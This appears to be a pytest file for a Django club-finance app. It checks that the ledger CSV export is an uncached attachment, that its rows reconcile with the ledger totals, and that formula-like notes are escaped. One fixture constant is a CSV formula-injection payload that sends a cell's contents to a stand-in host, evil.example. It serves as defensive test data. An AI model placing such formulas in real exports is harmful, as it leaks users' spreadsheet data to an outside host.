"""The accountant's CSV: one row per movement (date, kind, category, label, signed amount,
running balance), written by ``cjs.spreadsheet.csv_response`` so that a note typed as a
formula comes out as plain text."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from finance import actions, queries
from tests.factories import ExpenseFactory, OtherIncomeFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Ticket")'


@pytest.fixture
def season_with_movements(season, issued, leader):
    today = timezone.localdate()
    invoice = issued(fixed=Decimal("48.00"), on=today - dt.timedelta(days=10))
    actions.payment_record(
        invoice=invoice,
        amount=Decimal("48.00"),
        method="transfer",
        paid_on=today - dt.timedelta(days=8),
        by=leader,
    )
    OtherIncomeFactory(season=season, received_on=today - dt.timedelta(days=9))
    ExpenseFactory(season=season, spent_on=today - dt.timedelta(days=12), note=EVIL)
    ExpenseFactory(
        season=season,
        spent_on=today - dt.timedelta(days=2),
        amount=Decimal("7.35"),
        category="transport",
        note="+33 bus",
    )
    return season


def rows_of(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def test_the_csv_is_an_attachment_never_cached(leader_client, season_with_movements):
    season = season_with_movements
    response = leader_client.get(reverse("finance:ledger_csv", args=[season.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="comptes-{season.year}.csv"'
    assert "no-store" in response["Cache-Control"]


def test_the_csv_parses_back_to_the_ledger_totals(leader_client, season_with_movements):
    season = season_with_movements
    header, *rows = rows_of(leader_client.get(reverse("finance:ledger_csv", args=[season.pk])))
    assert len(header) == 6
    assert len(rows) == 4  # a payment, a car wash, two expenses
    amounts = [Decimal(row[4]) for row in rows]
    figures = queries.ledger(season)
    assert sum(a for a in amounts if a > 0) == figures.income == Decimal("198.00")
    assert -sum(a for a in amounts if a < 0) == figures.expenses == Decimal("27.35")
    assert Decimal(rows[-1][5]) == figures.result == Decimal("170.65")
    dates = [dt.date.fromisoformat(row[0]) for row in rows]
    assert dates == sorted(dates)
    balance = Decimal("0")
    for row in rows:
        balance += Decimal(row[4])
        assert Decimal(row[5]) == balance


def test_a_note_typed_as_a_formula_comes_out_neutralised(leader_client, season_with_movements):
    season = season_with_movements
    _header, *rows = rows_of(leader_client.get(reverse("finance:ledger_csv", args=[season.pk])))
    labels = [row[3] for row in rows]
    assert "'" + EVIL in labels
    assert EVIL not in labels
    assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)


def test_the_payment_row_names_its_invoice(leader_client, season_with_movements):
    season = season_with_movements
    _header, *rows = rows_of(leader_client.get(reverse("finance:ledger_csv", args=[season.pk])))
    payment = next(row for row in rows if row[4] == "48.00")
    assert payment[3].startswith(("Facture", "Invoice"))
    assert Decimal(payment[4]) == Decimal("48.00")
